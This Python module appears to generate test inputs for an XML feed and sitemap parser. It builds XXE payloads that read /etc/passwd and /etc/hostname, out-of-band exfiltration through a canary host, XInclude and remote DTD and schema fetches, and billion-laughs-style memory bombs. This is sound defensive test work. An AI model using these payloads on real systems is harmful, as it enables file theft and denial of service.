"""XML that reaches for files, for the network or for all the memory there is: in feeds, sitemaps, pages and lists."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

SECRETS = ("/etc/hostname", "/etc/passwd")  # files whose content nothing may show
_ITEM = "<item><title>{0}</title><link>https://a.example/1</link><guid>{0}1</guid><description>{0}</description></item>"
_RSS = "<rss version='2.0'><channel><title>{0}</title><link>https://a.example/</link>" + _ITEM + "</channel></rss>"
_ATOM = (
    "<feed xmlns='http://www.w3.org/2005/Atom'><title>{0}</title><id>urn:x</id><entry><title>{0}</title><id>urn:{0}</id>"
    "<link href='https://a.example/1'/><content type='html'>{0}</content><updated>2026-10-12T09:00:00Z</updated></entry></feed>"
)
_SITEMAP = (
    "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' xmlns:n='http://www.google.com/schemas/sitemap-news/0.9'>"
    "<url><loc>https://a.example/1{0}</loc><n:news><n:title>{0}</n:title></n:news></url></urlset>"
)
DOCUMENTS = {"rss": _RSS, "feed": _ATOM, "urlset": _SITEMAP}


def reaching(canary: str) -> Iterator[tuple[str, bytes]]:
    """(name, document): whoever resolves what it names asks `canary` or reads a file."""
    targets = {f"file {path}": f"file://{path}" for path in SECRETS} | {
        "bare path": "/etc/passwd",
        "url": f"{canary}/entity",
    }
    for root, document in DOCUMENTS.items():
        for name, target in targets.items():
            yield f"{root}, entity, {name}", _declared(root, f'<!ENTITY x SYSTEM "{target}">', document.format("&x;"))
            public = f'<!ENTITY x PUBLIC "-//X//Y" "{target}">'
            yield f"{root}, public entity, {name}", _declared(root, public, document.format("&x;"))
        shown = document.format("x")
        yield f"{root}, external DTD", f'<!DOCTYPE {root} SYSTEM "{canary}/x.dtd">{shown}'.encode()
        yield f"{root}, public DTD", f'<!DOCTYPE {root} PUBLIC "-//Netscape//DTD" "{canary}/x.dtd">{shown}'.encode()
        yield f"{root}, parameter entity", _declared(root, f'<!ENTITY % p SYSTEM "{canary}/p.dtd"> %p;', shown)
        stolen = f'<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "{canary}/oob.dtd"> %d; %all;'
        yield f"{root}, out of band", _declared(root, stolen, document.format("&send;"))
        yield (
            f"{root}, xinclude",
            document.format(
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/hostname" parse="text"/>'
            ).encode(),
        )
        yield f"{root}, style sheet", f'<?xml version="1.0"?><?xml-stylesheet href="{canary}/x.xsl"?>{shown}'.encode()
        located = f' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x {canary}/x.xsd"'
        yield f"{root}, schema", shown.replace(f"<{root}", f"<{root}{located}", 1).encode()
        entity = '<!ENTITY x SYSTEM "file:///etc/hostname">'
        for encoding in ("utf-16", "utf-7", "utf-32"):
            hidden = (
                f'<?xml version="1.0" encoding="{encoding}"?>'
                + _declared(root, entity, document.format("&x;")).decode()
            )
            yield f"{root}, in {encoding}", hidden.encode(encoding)


def bombs() -> Iterator[tuple[str, bytes]]:
    """(name, document): small to send, large to read."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    parameters = "".join(f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 10))
    for root, document in DOCUMENTS.items():
        yield f"{root}, billion laughs", _declared(root, f'<!ENTITY l0 "lol">{levels}', document.format("&l9;"))
        yield f"{root}, quadratic", _declared(root, f'<!ENTITY q "{"q" * 50_000}">', document.format("&q;" * 2_000))
        yield f"{root}, circle", _declared(root, '<!ENTITY a "&b;"><!ENTITY b "&a;">', document.format("&a;"))
        yield f"{root}, parameters", _declared(root, f"<!ENTITY % p0 'lol'>{parameters} %p9;", document.format("x"))
        attribute = document.format("x").replace(f"<{root}", f'<{root} a="&l9;"', 1)
        yield f"{root}, in an attribute", _declared(root, f'<!ENTITY l0 "lol">{levels}', attribute)


_NAMED = re.compile(rb"(?:https?|ftp|gopher|php|jar|netdoc|expect)://[^\s\"'<>]*", re.IGNORECASE)


def recorded(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Attacks that others collected, one document each, also those that stand in lists line by line."""
    for path in sorted(folder.iterdir()):
        if path.name == "SOURCE.md":
            continue
        yield path.name, path.read_bytes()
        if path.suffix == ".txt":
            yield from (
                (f"{path.name}, {number}", line)
                for number, line in enumerate(path.read_bytes().splitlines())
                if line.strip()
            )


def rewritten(content: bytes, canary: str) -> bytes:
    """A document of others with every address it names at our canary."""
    return _NAMED.sub(lambda found: f"{canary}/{quote(found[0].decode('latin-1'), safe='')}".encode(), content)


def _declared(root: str, subset: str, document: str) -> bytes:
    return f"<!DOCTYPE {root} [{subset}]>{document}".encode()
